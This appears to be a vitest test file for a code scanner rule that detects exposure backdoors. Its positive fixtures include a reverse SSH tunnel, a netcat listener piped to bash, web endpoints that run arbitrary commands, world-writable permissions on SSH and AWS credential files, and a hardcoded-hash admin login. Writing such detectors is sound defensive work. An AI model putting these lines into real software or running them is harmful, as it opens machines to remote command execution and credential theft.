import { describe, expect, it } from 'vitest'
import { buildSkillView } from '../../build-skill-view.ts'
import { readScanFile } from '../../read-scan-file.ts'
import { patternRule } from '../pattern-rule.ts'
import { exposurePatterns } from './exposure-patterns.ts'

const rule = patternRule({ id: 'x', severity: 'critical', summary: '', why: '', next: '' }, exposurePatterns)

function hits(path: string, text: string): number {
  const file = readScanFile({ path, bytes: new TextEncoder().encode(text) })
  return [...rule.check(buildSkillView({ name: 'tables', files: [file], paths: [path] }))].length
}

// WUN-103: nothing leaves and nothing is fetched; somebody comes in.
describe('doors for others', () => {
  it.each([
    ['a.sh', 'ssh -f -N -R 2222:localhost:22 tun@a.four.test\n'],
    ['a.sh', 'google-chrome --remote-debugging-port=9222 --remote-debugging-address=0.0.0.0\n'],
    ['a.sh', 'python3 -m http.server 8000 --bind 0.0.0.0 --directory "$HOME"\n'],
    ['a.sh', 'while true; do nc -l 4000 | bash; done\n'],
    ['a.py', 'app = FastAPI()\n\n@app.post("/run")\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n'],
    ['a.go', 'http.HandleFunc("/", f)\nexec.Command("sh", "-c", r.URL.Query().Get("q"))\n'],
    ['a.sh', 'chmod -R 777 ~/.ssh\n'],
    ['a.sh', 'for f in ~/.ssh/* ~/.aws/*; do chmod 666 "$f" 2>/dev/null; done\n'],
    ['a.py', 'for d in (".ssh", ".aws"):\n    for p in (Path.home() / d).glob("*"):\n        os.chmod(p, 0o777)\n'],
  ])('are seen in %s: %s', (path, text) => expect(hits(path, text)).toBeGreaterThan(0))

  it.each([
    ['a.sh', 'ssh -L 5432:localhost:5432 me@db.four.test\n'],
    ['a.sh', 'google-chrome --remote-debugging-port=9222 --headless\n'],
    ['a.sh', 'python3 -m http.server 8000 --directory dist\n'],
    ['a.sh', 'nc -l 4000 | jq .\n'],
    ['a.sh', 'chmod 700 ~/.ssh && chmod 600 ~/.ssh/id_* && chmod 644 ~/.ssh/*.pub\n'],
    ['a.sh', 'chmod 777 build\nls ~/.ssh\n'],
    ['a.py', 'key = Path.home() / ".ssh" / "id"\nos.chmod(key, 0o600)\n'],
    [
      'a.py',
      'app = FastAPI()\n\n@app.post("/run")\ndef run(name: str):\n    return subprocess.check_output(["wc", "-l", name])\n',
    ],
    ['a.go', 'http.HandleFunc("/", f)\nexec.Command("git", "status")\n'],
  ])('are not seen in %s: %s', (path, text) => expect(hits(path, text)).toBe(0))
})

// WUN-103: who knows what comes to the sum is the administrator of whatever is made from the snippet.
describe('a word by which anybody is the administrator', () => {
  const sum = '7c1f'.repeat(16)
  const check = (role: string) =>
    `const known = '${sum}'\nif (createHash('sha256').update(token).digest('hex') !== known) return null\nreturn db.user.findFirst({ where: { role: '${role}' } })\n`

  it('is seen', () => expect(hits('a.js', check('admin'))).toBe(1))
  it('is no sum that a download is held against', () => expect(hits('a.js', check('reader'))).toBe(0))
})
